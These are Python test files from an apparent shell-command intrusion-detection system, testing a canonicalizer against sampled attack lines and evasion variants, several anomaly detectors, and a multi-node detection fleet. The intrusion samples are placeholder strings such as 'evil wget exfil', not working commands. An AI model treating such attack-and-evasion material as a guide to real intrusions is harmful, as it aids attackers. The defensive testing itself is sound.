    def test_max_passes_positive(self):
        with pytest.raises(ValueError):
            Canonicalizer(max_passes=0)

    def test_truncation_length_positive(self):
        with pytest.raises(ValueError):
            Canonicalizer(truncation_length=0)

    def test_already_canonical_reports_unchanged(self):
        result = Canonicalizer().canonicalize("ls -la /tmp")
        assert result.ok and not result.changed


# -- property suite --------------------------------------------------------

seeds = st.integers(min_value=0, max_value=10_000)
family_names = st.sampled_from([f.name for f in ATTACK_FAMILIES])

#: Arbitrary printable command-ish text — most of it unparseable noise,
#: which is exactly what the fallback contract must absorb.
arbitrary_lines = st.text(
    alphabet=st.characters(min_codepoint=32, max_codepoint=126),
    max_size=120,
)


@given(arbitrary_lines)
@settings(max_examples=200, deadline=None)
def test_canonicalize_is_total_and_idempotent(line):
    canonicalizer = Canonicalizer()
    first = canonicalizer.canonicalize(line)
    second = canonicalizer.canonicalize(first.text)
    assert second.text == first.text
    if first.ok:
        assert second.ok
        assert not second.changed


@given(family_names, st.booleans(), seeds)
@settings(max_examples=60, deadline=None)
def test_attack_lines_canonicalize_idempotently(family, inbox, seed):
    sampler = AttackSampler(np.random.default_rng(seed))
    canonicalizer = Canonicalizer()
    for line in sampler.sample(family, inbox=inbox):
        result = canonicalizer.canonicalize(line)
        again = canonicalizer.canonicalize(result.text)
        assert again.text == result.text


@given(family_names, st.booleans(), seeds)
@settings(max_examples=60, deadline=None)
def test_canonical_text_is_an_unparse_fixed_point(family, inbox, seed):
    # semantic preservation: the canonical form of every parseable line
    # is itself parseable, and parse -> unparse reproduces it exactly —
    # the canonicalizer only moves *within* the shell grammar
    sampler = AttackSampler(np.random.default_rng(seed))
    canonicalizer = Canonicalizer()
    for line in sampler.sample(family, inbox=inbox):
        result = canonicalizer.canonicalize(line)
        if not result.ok:
            continue
        assert unparse_list(parse(result.text)) == result.text


@given(family_names, seeds)
@settings(max_examples=40, deadline=None)
def test_every_evasion_variant_canonicalizes_to_its_base(family, seed):
    rng = np.random.default_rng(seed)
    sampler = AttackSampler(rng)
    mutator = EvasionMutator(rng=rng)
    canonicalizer = Canonicalizer()
    for line in sampler.sample(family, inbox=True):
        base_canonical = mutator.canonical(line)
        if base_canonical is None:
            continue
        for technique, variant in mutator.variants(line):
            assert variant != line, technique
            assert canonicalizer.canonicalize(variant).text == base_canonical
