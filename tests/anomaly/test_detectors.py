"""Tests for the unsupervised anomaly detectors."""

import numpy as np
import pytest

from repro.anomaly import (
    IsolationForest,
    KNNNoveltyDetector,
    OneClassSVM,
    PCAReconstructionDetector,
    average_path_length,
    pca_projection_matrix,
)
from repro.errors import NotFittedError


@pytest.fixture(scope="module")
def subspace_data():
    """Inliers on a 3-d subspace of 10-d space plus off-subspace outliers."""
    rng = np.random.default_rng(0)
    basis = rng.normal(size=(3, 10))
    inliers = rng.normal(size=(400, 3)) @ basis + 0.01 * rng.normal(size=(400, 10))
    outliers = rng.normal(size=(20, 10)) * 3.0
    return inliers, outliers


def auc(scores, labels):
    order = np.argsort(scores)
    ranks = np.empty(len(scores))
    ranks[order] = np.arange(len(scores))
    n_pos = int(labels.sum())
    n_neg = len(labels) - n_pos
    pos_rank_sum = ranks[labels == 1].sum()
    return (pos_rank_sum - n_pos * (n_pos - 1) / 2) / (n_pos * n_neg)


class TestPCA:
    def test_detects_off_subspace_outliers(self, subspace_data):
        inliers, outliers = subspace_data
        detector = PCAReconstructionDetector(variance_kept=0.95).fit(inliers)
        test = np.vstack([inliers[:100], outliers])
        labels = np.array([0] * 100 + [1] * 20)
        assert auc(detector.score(test), labels) > 0.95

    def test_component_count_matches_subspace(self, subspace_data):
        inliers, _ = subspace_data
        detector = PCAReconstructionDetector(variance_kept=0.95).fit(inliers)
        assert detector.n_components_ == 3

    def test_explicit_component_count(self, subspace_data):
        inliers, _ = subspace_data
        detector = PCAReconstructionDetector(n_components=2).fit(inliers)
        assert detector.n_components_ == 2

    def test_reconstruction_near_perfect_on_subspace(self, subspace_data):
        inliers, _ = subspace_data
        detector = PCAReconstructionDetector(variance_kept=0.95).fit(inliers)
        scores = detector.score(inliers)
        assert np.median(scores) < 0.01

    def test_score_is_squared_l2_of_residual(self, subspace_data):
        inliers, _ = subspace_data
        detector = PCAReconstructionDetector(variance_kept=0.95).fit(inliers)
        sample = inliers[:5]
        residual = sample - detector.reconstruct(sample)
        np.testing.assert_allclose(detector.score(sample), (residual**2).sum(axis=1))

    def test_unfitted_raises(self):
        with pytest.raises(NotFittedError):
            PCAReconstructionDetector().score(np.ones((2, 3)))

    def test_degenerate_constant_data(self):
        detector = PCAReconstructionDetector().fit(np.ones((10, 4)))
        assert (detector.score(np.ones((3, 4))) < 1e-18).all()

    def test_validates_shape(self):
        with pytest.raises(ValueError):
            PCAReconstructionDetector().fit(np.ones(5))

    def test_invalid_variance(self):
        with pytest.raises(ValueError):
            PCAReconstructionDetector(variance_kept=0.0)

    def test_projection_matrix_helper(self, subspace_data):
        inliers, _ = subspace_data
        w = pca_projection_matrix(inliers, variance_kept=0.95)
        assert w.shape == (3, 10)
        # rows orthonormal
        np.testing.assert_allclose(w @ w.T, np.eye(3), atol=1e-10)

    def test_fit_score_shortcut(self, subspace_data):
        inliers, _ = subspace_data
        scores = PCAReconstructionDetector().fit_score(inliers)
        assert scores.shape == (inliers.shape[0],)


class TestIsolationForest:
    def test_detects_outliers(self, subspace_data):
        inliers, outliers = subspace_data
        forest = IsolationForest(n_trees=50, seed=0).fit(inliers)
        test = np.vstack([inliers[:100], outliers])
        labels = np.array([0] * 100 + [1] * 20)
        assert auc(forest.score(test), labels) > 0.85

    def test_scores_in_unit_interval(self, subspace_data):
        inliers, _ = subspace_data
        forest = IsolationForest(n_trees=20, seed=0).fit(inliers)
        scores = forest.score(inliers[:50])
        assert (scores > 0).all() and (scores < 1).all()

    def test_deterministic_given_seed(self, subspace_data):
        inliers, _ = subspace_data
        a = IsolationForest(n_trees=10, seed=7).fit(inliers).score(inliers[:10])
        b = IsolationForest(n_trees=10, seed=7).fit(inliers).score(inliers[:10])
        np.testing.assert_array_equal(a, b)

    def test_average_path_length_known_values(self):
        assert average_path_length(1) == 0.0
        assert average_path_length(2) == 1.0
        assert average_path_length(256) > average_path_length(16)

    def test_small_sample_ok(self):
        forest = IsolationForest(n_trees=5, subsample_size=8, seed=0).fit(np.random.default_rng(0).normal(size=(8, 2)))
        assert forest.score(np.zeros((1, 2))).shape == (1,)

    def test_validation(self):
        with pytest.raises(ValueError):
            IsolationForest(n_trees=0)
        with pytest.raises(ValueError):
            IsolationForest(subsample_size=1)


class TestOneClassSVM:
    def test_detects_outliers(self, subspace_data):
        inliers, outliers = subspace_data
        svm = OneClassSVM(seed=0, epochs=5).fit(inliers)
        test = np.vstack([inliers[:100], outliers])
        labels = np.array([0] * 100 + [1] * 20)
        assert auc(svm.score(test), labels) > 0.85

    def test_linear_mode(self, subspace_data):
        inliers, outliers = subspace_data
        svm = OneClassSVM(rff_features=0, seed=0, epochs=5).fit(inliers)
        assert svm.score(outliers).mean() > svm.score(inliers).mean()

    def test_nu_validation(self):
        with pytest.raises(ValueError):
            OneClassSVM(nu=0.0)

    def test_unfitted_raises(self):
        with pytest.raises(NotFittedError):
            OneClassSVM().score(np.ones((2, 3)))


class TestKNNNovelty:
    def test_detects_outliers(self, subspace_data):
        inliers, outliers = subspace_data
        knn = KNNNoveltyDetector(k=5).fit(inliers)
        test = np.vstack([inliers[:100], outliers])
        labels = np.array([0] * 100 + [1] * 20)
        assert auc(knn.score(test), labels) > 0.95

    def test_training_points_score_near_zero(self, subspace_data):
        inliers, _ = subspace_data
        knn = KNNNoveltyDetector(k=1).fit(inliers)
        assert knn.score(inliers[:20]).max() < 1e-6

    def test_chunked_equals_unchunked(self, subspace_data):
        inliers, outliers = subspace_data
        small = KNNNoveltyDetector(k=3, chunk_size=7).fit(inliers)
        big = KNNNoveltyDetector(k=3, chunk_size=10_000).fit(inliers)
        np.testing.assert_allclose(small.score(outliers), big.score(outliers))

    def test_k_capped_at_train_size(self):
        knn = KNNNoveltyDetector(k=100).fit(np.zeros((3, 2)))
        assert knn.score(np.ones((1, 2))).shape == (1,)

    def test_k_validation(self):
        with pytest.raises(ValueError):
            KNNNoveltyDetector(k=0)
