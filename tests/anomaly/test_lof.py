"""Tests for the Local Outlier Factor detector."""

import numpy as np
import pytest

from repro.anomaly import LocalOutlierFactor
from repro.errors import NotFittedError


@pytest.fixture(scope="module")
def clustered():
    rng = np.random.default_rng(3)
    dense = rng.normal(size=(300, 4)) * 0.5
    sparse_outliers = rng.normal(size=(12, 4)) * 8 + 20
    return dense, sparse_outliers


class TestLOF:
    def test_outliers_score_higher(self, clustered):
        dense, outliers = clustered
        lof = LocalOutlierFactor(k=10).fit(dense)
        assert lof.score(outliers).min() > lof.score(dense[:50]).mean()

    def test_inliers_near_one(self, clustered):
        dense, _ = clustered
        lof = LocalOutlierFactor(k=10).fit(dense)
        scores = lof.score(dense[:100])
        assert 0.8 < np.median(scores) < 1.5

    def test_chunked_equals_unchunked(self, clustered):
        dense, outliers = clustered
        small = LocalOutlierFactor(k=5, chunk_size=3).fit(dense)
        big = LocalOutlierFactor(k=5, chunk_size=10_000).fit(dense)
        np.testing.assert_allclose(small.score(outliers), big.score(outliers))

    def test_tiny_training_set(self):
        lof = LocalOutlierFactor(k=50).fit(np.random.default_rng(0).normal(size=(5, 2)))
        assert lof.score(np.zeros((2, 2))).shape == (2,)

    def test_unfitted_raises(self):
        with pytest.raises(NotFittedError):
            LocalOutlierFactor().score(np.ones((2, 2)))

    def test_k_validation(self):
        with pytest.raises(ValueError):
            LocalOutlierFactor(k=0)

    def test_validates_input_shape(self):
        with pytest.raises(ValueError):
            LocalOutlierFactor().fit(np.ones(5))
