"""Shared helpers for the fleet suite.

Every test runs a *real* fleet — N :class:`FleetNode` s listening on
OS-assigned localhost ports, speaking the real frame protocol over real
TCP — but in one process and one event loop, with the deterministic
:class:`StubService` standing in for the language model, so the suite
is fast, hermetic, and inspectable (each node's server and sinks are
reachable as Python objects).
"""

import asyncio

import pytest

from repro.fleet import FleetConfig, FleetNode, FleetRouter
from repro.serving import CallbackSink, DetectionServer
from tests.serving.conftest import StubService


def run(coro):
    return asyncio.run(coro)


class FleetHarness:
    """N in-process nodes + the config that names them."""

    def __init__(self, nodes: list[FleetNode], config: FleetConfig):
        self.nodes = nodes
        self.config = config
        self.alerts: dict[str, list] = {node.address: [] for node in nodes}

    def node_at(self, address: str) -> FleetNode:
        return next(node for node in self.nodes if node.address == address)

    def all_alert_keys(self) -> set[tuple[str, str]]:
        """Every (host, line) alerted anywhere in the fleet."""
        return {
            (alert.host, alert.line)
            for alerts in self.alerts.values()
            for alert in alerts
        }


async def start_fleet(
    n_nodes: int,
    *,
    make_service=StubService,
    fleet_overrides: dict | None = None,
    server_kwargs: dict | None = None,
    swap_resolver=None,
) -> FleetHarness:
    """Start *n_nodes* stub-backed nodes on OS-assigned ports."""
    server_kwargs = {"max_latency_ms": 5.0, **(server_kwargs or {})}
    nodes = []
    for _ in range(n_nodes):
        server = DetectionServer(make_service(), **server_kwargs)
        node = FleetNode(server, port=0, swap_resolver=swap_resolver)
        await node.start()
        nodes.append(node)
    config = FleetConfig(
        nodes=tuple(node.address for node in nodes),
        batch_max_events=8,
        batch_max_latency_ms=5.0,
        max_inflight_batches=4,
        drain_timeout_seconds=10.0,
        **(fleet_overrides or {}),
    )
    harness = FleetHarness(nodes, config)
    for node in nodes:
        sink_alerts = harness.alerts[node.address]
        node.server.sinks.add(CallbackSink(sink_alerts.append), name="test-capture")
    return harness


async def stop_fleet(harness: FleetHarness) -> None:
    for node in harness.nodes:
        try:
            await node.stop()
        except Exception:
            pass


@pytest.fixture
def stream():
    """A deterministic multi-host event stream factory.

    ``stream(n, hosts)`` yields ``(line, host)`` pairs: unique lines,
    every one an intrusion for :class:`StubService` (contains 'evil'),
    hosts cycling so each host's stream is non-trivial.
    """

    def make(n: int, hosts: int = 12):
        return [
            (f"evil payload number {index}", f"host-{index % hosts:02d}")
            for index in range(n)
        ]

    return make
