"""Failure-detector unit tests: suspicion ladder, terminal death."""

import pytest

from repro.fleet import DEAD, LIVE, SUSPECT, FailureDetector


class TestSuspicion:
    def test_new_node_is_live(self):
        detector = FailureDetector()
        detector.add("n1")
        assert detector.state("n1") == LIVE

    def test_untracked_node_reads_dead(self):
        assert FailureDetector().state("ghost") == DEAD

    def test_miss_ladder_live_suspect_dead(self):
        detector = FailureDetector(suspicion_misses=3)
        detector.add("n1")
        assert detector.record_miss("n1") == SUSPECT
        assert detector.record_miss("n1") == SUSPECT
        assert detector.record_miss("n1") == DEAD

    def test_single_ok_resets_consecutive_misses(self):
        # lossy-but-alive must never accumulate misses across hours
        detector = FailureDetector(suspicion_misses=3)
        detector.add("n1")
        for _ in range(10):
            detector.record_miss("n1")
            detector.record_miss("n1")
            detector.record_ok("n1", now=1.0)
        assert detector.state("n1") == LIVE

    def test_suspect_still_listed_live(self):
        detector = FailureDetector(suspicion_misses=3)
        detector.add("n1")
        detector.add("n2")
        detector.record_miss("n2")
        assert detector.live_nodes() == ["n1", "n2"]

    def test_dead_is_terminal(self):
        detector = FailureDetector(suspicion_misses=1)
        detector.add("n1")
        detector.record_miss("n1")
        assert detector.state("n1") == DEAD
        # a late ack never resurrects an evicted node
        detector.record_ok("n1", now=5.0)
        assert detector.state("n1") == DEAD
        assert detector.record_miss("n1") == DEAD
        assert detector.live_nodes() == []

    def test_mark_dead_is_immediate(self):
        detector = FailureDetector(suspicion_misses=5)
        detector.add("n1")
        detector.mark_dead("n1")
        assert detector.state("n1") == DEAD

    def test_ok_records_vitals_and_time(self):
        detector = FailureDetector()
        detector.record_ok("n1", now=42.0, vitals={"generation": 3})
        health = detector.health("n1")
        assert health.last_ok_at == 42.0
        assert health.vitals == {"generation": 3}

    def test_snapshot_is_json_shaped(self):
        import json

        detector = FailureDetector()
        detector.add("n1")
        detector.record_miss("n1")
        snapshot = detector.snapshot()
        assert json.loads(json.dumps(snapshot)) == snapshot
        assert snapshot["n1"]["state"] == SUSPECT

    def test_validates_threshold(self):
        with pytest.raises(ValueError):
            FailureDetector(suspicion_misses=0)
