"""FleetConfig validation and the one-file deployment split."""

import pytest

from repro.errors import ConfigError
from repro.fleet import FleetConfig, load_fleet_file, parse_address


class TestParseAddress:
    def test_host_port(self):
        assert parse_address("10.0.0.5:9101") == ("10.0.0.5", 9101)

    @pytest.mark.parametrize(
        "bad", ["nohost", ":9101", "host:", "host:nan", "host:70000", 9101]
    )
    def test_rejects_malformed(self, bad):
        with pytest.raises(ConfigError):
            parse_address(bad)


class TestFleetConfig:
    def test_defaults_round_trip(self):
        config = FleetConfig(nodes=("a:1", "b:2"))
        assert FleetConfig.from_dict(config.to_dict()) == config

    def test_rejects_duplicate_nodes(self):
        with pytest.raises(ConfigError, match="duplicate"):
            FleetConfig(nodes=("a:1", "a:1"))

    def test_rejects_bad_address_with_index(self):
        with pytest.raises(ConfigError, match=r"fleet\.nodes\[1\]"):
            FleetConfig(nodes=("a:1", "nonsense"))

    def test_rejects_unknown_keys_with_path(self):
        with pytest.raises(ConfigError, match="fleet"):
            FleetConfig.from_dict({"nodez": ["a:1"]})

    @pytest.mark.parametrize(
        "field,value",
        [
            ("heartbeat_interval_seconds", 0),
            ("suspicion_misses", 0),
            ("batch_max_events", 0),
            ("batch_max_latency_ms", -1.0),
            ("max_inflight_batches", 0),
            ("drain_timeout_seconds", 0),
        ],
    )
    def test_rejects_non_positive_knobs(self, field, value):
        with pytest.raises(ConfigError, match=field):
            FleetConfig(**{field: value})

    def test_addresses_property(self):
        config = FleetConfig(nodes=("a:1", "b:2"))
        assert config.addresses == [("a", 1), ("b", 2)]


class TestDeploymentFile:
    def test_one_file_splits_into_both_views(self, tmp_path):
        path = tmp_path / "fleet.toml"
        path.write_text(
            """
            concurrency = 4

            [fleet]
            nodes = ["127.0.0.1:9101", "127.0.0.1:9102"]
            batch_max_events = 64

            [batch]
            max_batch = 16
            """
        )
        fleet, serving = load_fleet_file(path)
        assert fleet.nodes == ("127.0.0.1:9101", "127.0.0.1:9102")
        assert fleet.batch_max_events == 64
        assert fleet.virtual_nodes == 64  # default survives a partial table
        assert serving.batch.max_batch == 16
        assert serving.concurrency == 4

    def test_missing_halves_default(self, tmp_path):
        path = tmp_path / "only_serving.toml"
        path.write_text("[batch]\nmax_batch = 8\n")
        fleet, serving = load_fleet_file(path)
        assert fleet == FleetConfig()
        assert serving.batch.max_batch == 8

        path = tmp_path / "only_fleet.json"
        path.write_text('{"fleet": {"nodes": ["h:1"]}}')
        fleet, serving = load_fleet_file(path)
        assert fleet.nodes == ("h:1",)
        assert serving.batch.max_batch == 32  # serving defaults

    def test_bad_fleet_key_names_the_file(self, tmp_path):
        path = tmp_path / "fleet.toml"
        path.write_text("[fleet]\nnodes = [42]\n")
        with pytest.raises(ConfigError, match="fleet"):
            load_fleet_file(path)

    def test_from_file_reads_only_the_fleet_table(self, tmp_path):
        path = tmp_path / "fleet.toml"
        path.write_text('[fleet]\nnodes = ["h:1"]\n')
        assert FleetConfig.from_file(path).nodes == ("h:1",)
