"""Fleet acceptance tests: parity, failover, rolling swap, merged metrics.

These are the contract of the multi-node runtime, each proven against a
real 3-node in-process fleet over real localhost TCP:

- a fleet scores a stream **identically** to a single server (same
  alerts, same escalated hosts) — distribution is an implementation
  detail;
- killing a node mid-stream loses **zero** events: unacknowledged
  batches are replayed to the survivors, and only the dead node's
  hosts are reassigned (~1/N of the key space);
- a rolling fleet swap under live load drops nothing, never mixes
  generations inside a batch, and converges every node to one
  generation;
- ``status()`` merges per-node metrics into exact fleet totals.
"""

import asyncio

import pytest

from repro.errors import FleetError
from repro.fleet import FleetRouter
from repro.serving import CallbackSink, DetectionServer
from repro.serving.events import CommandEvent
from tests.fleet.conftest import FleetHarness, run, start_fleet, stop_fleet
from tests.serving.conftest import StubService


async def wait_until(predicate, timeout: float = 5.0, interval: float = 0.01):
    deadline = asyncio.get_running_loop().time() + timeout
    while not predicate():
        if asyncio.get_running_loop().time() > deadline:
            raise AssertionError("condition not reached in time")
        await asyncio.sleep(interval)


class TestParity:
    def test_three_node_fleet_matches_single_server(self, stream):
        """Same stream, same verdicts: N nodes are an implementation detail."""
        events = stream(240, hosts=18)

        async def fleet_side():
            harness = await start_fleet(3)
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    for line, host in events:
                        await router.submit(line, host)
                    await router.drain()
                escalated = set()
                for node in harness.nodes:
                    escalated |= set(node.server.sessions.escalated_hosts())
            finally:
                await stop_fleet(harness)
            return harness.all_alert_keys(), escalated

        async def single_side():
            alerts = []
            server = DetectionServer(
                StubService(), max_latency_ms=5.0, sinks=[CallbackSink(alerts.append)]
            )
            async with server:
                await server.submit_many(
                    CommandEvent(line=line, host=host) for line, host in events
                )
            return (
                {(alert.host, alert.line) for alert in alerts},
                set(server.sessions.escalated_hosts()),
            )

        fleet_alerts, fleet_escalated = run(fleet_side())
        single_alerts, single_escalated = run(single_side())
        assert fleet_alerts == single_alerts
        assert len(fleet_alerts) == len(events)  # every line is an intrusion
        assert fleet_escalated == single_escalated and fleet_escalated

    def test_hosts_partition_cleanly_across_nodes(self, stream):
        """Each host's whole stream lands on exactly one node."""
        events = stream(120, hosts=12)

        async def scenario():
            harness = await start_fleet(3)
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    for line, host in events:
                        await router.submit(line, host)
                    await router.drain()
            finally:
                await stop_fleet(harness)
            return harness

        harness = run(scenario())
        seen_on = {}
        for address, alerts in harness.alerts.items():
            for alert in alerts:
                seen_on.setdefault(alert.host, set()).add(address)
        assert seen_on and all(len(nodes) == 1 for nodes in seen_on.values())
        # and the fleet actually spread the hosts (3 nodes, 12 hosts)
        assert len({next(iter(n)) for n in seen_on.values()}) > 1


class TestFailover:
    def test_node_kill_mid_stream_loses_zero_events(self, stream):
        events = stream(300, hosts=18)
        first_half, second_half = events[:150], events[150:]

        async def scenario():
            harness = await start_fleet(3)
            victim = harness.nodes[1]
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    owners_before = {
                        host: router.owner_of(host)
                        for host in {host for _, host in events}
                    }
                    for line, host in first_half:
                        await router.submit(line, host)
                    await victim.kill()  # connections abort; nothing acks
                    for line, host in second_half:
                        await router.submit(line, host)
                    await wait_until(
                        lambda: victim.address not in router.live_nodes
                    )
                    await router.drain()
                    owners_after = {
                        host: router.owner_of(host) for host in owners_before
                    }
                    stats = router.stats()
            finally:
                await stop_fleet(harness)
            return harness, victim, owners_before, owners_after, stats

        harness, victim, owners_before, owners_after, stats = run(scenario())
        # zero loss: every submitted line alerted somewhere in the fleet
        # (at-least-once: replayed batches may alert twice, never zero times)
        submitted = {(host, line) for line, host in events}
        assert submitted <= harness.all_alert_keys()
        assert stats["nodes_evicted"] == 1
        assert stats["orphaned_events"] == 0
        # only the dead node's hosts moved: the ring reassigns ~1/N of
        # the key space, not the whole mapping
        moved = {h for h in owners_before if owners_before[h] != owners_after[h]}
        assert moved == {
            h for h, owner in owners_before.items() if owner == victim.address
        }
        assert moved  # the victim really owned some hosts
        assert all(owner != victim.address for owner in owners_after.values())

    def test_unresponsive_node_evicted_by_heartbeats(self, stream):
        """A node that accepts TCP but never answers is detected and
        drained around — liveness is heartbeat acks, not connectivity."""
        events = stream(80, hosts=12)

        async def scenario():
            harness = await start_fleet(2)

            async def black_hole(reader, writer):
                await asyncio.sleep(3600)

            silent = await asyncio.start_server(black_hole, "127.0.0.1", 0)
            silent_address = "127.0.0.1:%d" % silent.sockets[0].getsockname()[1]
            config = harness.config.from_dict(
                {
                    **harness.config.to_dict(),
                    "nodes": [*harness.config.nodes, silent_address],
                    "heartbeat_interval_seconds": 0.05,
                    "heartbeat_timeout_seconds": 0.25,
                    "suspicion_misses": 2,
                }
            )
            try:
                async with FleetRouter(config) as router:
                    for line, host in events:
                        await router.submit(line, host)
                    await wait_until(
                        lambda: silent_address not in router.live_nodes, timeout=10.0
                    )
                    await router.drain()
                    stats = router.stats()
            finally:
                silent.close()
                await silent.wait_closed()
                await stop_fleet(harness)
            return harness, stats

        harness, stats = run(scenario())
        submitted = {(host, line) for line, host in events}
        assert submitted <= harness.all_alert_keys()
        assert stats["nodes_evicted"] == 1 and stats["orphaned_events"] == 0

    def test_all_nodes_dead_fails_loudly(self, stream):
        async def scenario():
            harness = await start_fleet(1)
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    await router.submit("evil one", "host-a")
                    await harness.nodes[0].kill()
                    await wait_until(lambda: not router.live_nodes)
                    with pytest.raises(FleetError, match="no live nodes"):
                        for index in range(50):
                            await router.submit(f"evil {index}", "host-b")
                            await asyncio.sleep(0.01)
            finally:
                await stop_fleet(harness)

        run(scenario())


class TestRollingSwap:
    def test_rolling_swap_under_load(self, stream):
        """Swap every node while traffic flows: zero drops, no batch
        mixes generations, the fleet converges on one generation."""
        events = stream(400, hosts=18)

        async def scenario():
            harness = await start_fleet(
                3, swap_resolver=lambda ref: {"service": StubService()}
            )
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    feed_done = asyncio.Event()

                    async def producer():
                        for line, host in events:
                            await router.submit(line, host)
                            await asyncio.sleep(0.001)
                        feed_done.set()

                    feeder = asyncio.ensure_future(producer())
                    await asyncio.sleep(0.05)  # traffic established
                    reports = await router.swap_fleet("v2")
                    await feed_done.wait()
                    await feeder
                    await router.drain()
                    acks = list(router.acks)
                    stats = router.stats()
                generations = [node.server.generation for node in harness.nodes]
            finally:
                await stop_fleet(harness)
            return harness, reports, acks, stats, generations

        harness, reports, acks, stats, generations = run(scenario())
        # the roll touched every node and converged
        assert [report["generation"] for report in reports] == [1, 1, 1]
        assert generations == [1, 1, 1]
        # no batch ever mixed model generations
        assert acks and all(len(ack["generations"]) == 1 for ack in acks)
        # both generations actually served traffic (the swap was rolling,
        # not a stop-the-world restart)
        served = {ack["generations"][0] for ack in acks}
        assert served == {0, 1}
        # zero drops: every event alerted, nothing nacked into oblivion
        submitted = {(host, line) for line, host in events}
        assert submitted <= harness.all_alert_keys()
        assert stats["orphaned_events"] == 0 and stats["nodes_evicted"] == 0

    def test_divergent_fleet_fails_convergence_check(self):
        """A fleet whose nodes end on different generations is an error.

        Rotating one node behind the router's back makes the roll land
        on {2, 1}: each per-node swap passes its own fence (it is fenced
        on the node's *observed* generation), but the fleet-level
        convergence check must then fail loudly instead of reporting a
        half-new fleet as swapped.
        """

        async def scenario():
            harness = await start_fleet(
                2, swap_resolver=lambda ref: {"service": StubService()}
            )
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    # rotate node 0 behind the router's back
                    await harness.nodes[0].server.swap_model(service=StubService())
                    with pytest.raises(FleetError, match="did not converge"):
                        await router.swap_fleet("v2")
                    generations = sorted(n.server.generation for n in harness.nodes)
            finally:
                await stop_fleet(harness)
            return generations

        generations = run(scenario())
        assert generations == [1, 2]


class TestControlPlane:
    def test_status_merges_exact_totals(self, stream):
        events = stream(150, hosts=12)

        async def scenario():
            harness = await start_fleet(3)
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    for line, host in events:
                        await router.submit(line, host)
                    await router.drain()
                    status = await router.status()
                    merged = await router.merged_metrics()
            finally:
                await stop_fleet(harness)
            return harness, status, merged

        harness, status, merged = run(scenario())
        per_node_events = [n["events_ingested"] for n in status["nodes"]]
        assert sum(per_node_events) == len(events)
        # merged metrics are the exact sum of the per-node counters
        assert status["merged"]["events_total"] == len(events)
        assert merged.events_total == len(events)
        assert merged.alerts == sum(
            node.server.metrics.alerts for node in harness.nodes
        )
        assert status["merged"]["shards"] == 3
        # the fleet-wide reservoir holds samples from the whole fleet
        assert merged.latency_percentile(50) > 0
        assert status["membership"]  # detector tracked every node

    def test_drain_node_stops_routing_to_it(self, stream):
        events = stream(120, hosts=12)

        async def scenario():
            harness = await start_fleet(3)
            drained = harness.nodes[0]
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    await router.drain_node(drained.address)
                    assert drained.address not in [
                        router.owner_of(host) for _, host in events
                    ]
                    for line, host in events:
                        await router.submit(line, host)
                    await router.drain()
            finally:
                await stop_fleet(harness)
            return harness, drained

        harness, drained = run(scenario())
        # the drained node processed nothing; the fleet still lost nothing
        assert drained.events_ingested == 0 and drained.draining
        submitted = {(host, line) for line, host in events}
        assert submitted <= harness.all_alert_keys()

    def test_resize_refused_on_inline_backend_via_router(self):
        async def scenario():
            harness = await start_fleet(1)
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    with pytest.raises(FleetError, match="refused resize"):
                        await router.resize_node(harness.nodes[0].address, 4)
            finally:
                await stop_fleet(harness)

        run(scenario())


class TestBackpressure:
    def test_inflight_window_is_bounded(self, stream):
        """The router never has more than max_inflight_batches unacked
        frames per node, even under a burst far larger than the window."""
        events = stream(400, hosts=6)

        async def scenario():
            harness = await start_fleet(2)
            peak = 0
            try:
                async with FleetRouter(harness.config, heartbeats=False) as router:
                    clients = list(router._clients.values())

                    async def watch():
                        nonlocal peak
                        while True:
                            peak = max(peak, max(len(c.unacked) for c in clients))
                            await asyncio.sleep(0)

                    watcher = asyncio.ensure_future(watch())
                    for line, host in events:
                        await router.submit(line, host)
                    await router.drain()
                    watcher.cancel()
            finally:
                await stop_fleet(harness)
            return peak

        peak = run(scenario())
        assert 0 < peak <= 4  # the harness config's max_inflight_batches
