"""Single-node tests: TCP ingest, acks, drain nacks, the admin verbs.

Each test boots one real :class:`FleetNode` on an OS-assigned port and
speaks raw protocol frames to it, so the node's dispatch loop — not a
mocked transport — is what is under test.
"""

import asyncio

import pytest

from repro.fleet import FleetNode
from repro.fleet.protocol import (
    FleetChannel,
    admin_message,
    heartbeat_message,
    ingest_message,
    read_frame,
    write_frame,
)
from repro.serving import DetectionServer
from tests.serving.conftest import StubService


def run(coro):
    return asyncio.run(coro)


async def start_node(**node_kwargs) -> FleetNode:
    server = DetectionServer(StubService(), max_latency_ms=5.0)
    node = FleetNode(server, port=0, **node_kwargs)
    return await node.start()


async def one_round_trip(node: FleetNode, message: dict) -> dict:
    reader, writer = await asyncio.open_connection(node.host, node.port)
    try:
        await write_frame(writer, message)
        return await read_frame(reader)
    finally:
        writer.close()


class TestIngest:
    def test_batch_is_scored_and_acked(self):
        async def scenario():
            node = await start_node()
            try:
                ack = await one_round_trip(
                    node,
                    ingest_message(
                        41,
                        [
                            ("evil wget exfil", "web-01", None),
                            ("ls -la", "web-01", None),
                            ("broken line '", "db-02", None),  # unparseable → dropped
                        ],
                    ),
                )
            finally:
                await node.stop()
            return ack, node

        ack, node = run(scenario())
        assert ack["type"] == "ack" and ack["batch_id"] == 41
        assert ack["events"] == 3
        assert ack["dropped"] == 1
        assert ack["intrusions"] == 1 and ack["alerts"] == 1
        assert ack["generations"] == [0]
        assert node.batches_ingested == 1 and node.events_ingested == 3

    def test_requests_on_one_connection_answer_in_order(self):
        async def scenario():
            node = await start_node()
            try:
                reader, writer = await asyncio.open_connection(node.host, node.port)
                for batch_id in range(4):
                    await write_frame(
                        writer,
                        ingest_message(batch_id, [(f"cmd {batch_id}", "h", None)]),
                    )
                acks = [await read_frame(reader) for _ in range(4)]
                writer.close()
            finally:
                await node.stop()
            return acks

        acks = run(scenario())
        assert [ack["batch_id"] for ack in acks] == [0, 1, 2, 3]

    def test_draining_node_nacks_without_processing(self):
        async def scenario():
            node = await start_node()
            try:
                await one_round_trip(node, admin_message("drain"))
                nack = await one_round_trip(
                    node, ingest_message(7, [("evil", "h", None)])
                )
                await one_round_trip(node, admin_message("undrain"))
                ack = await one_round_trip(
                    node, ingest_message(8, [("evil", "h", None)])
                )
            finally:
                await node.stop()
            return nack, ack, node

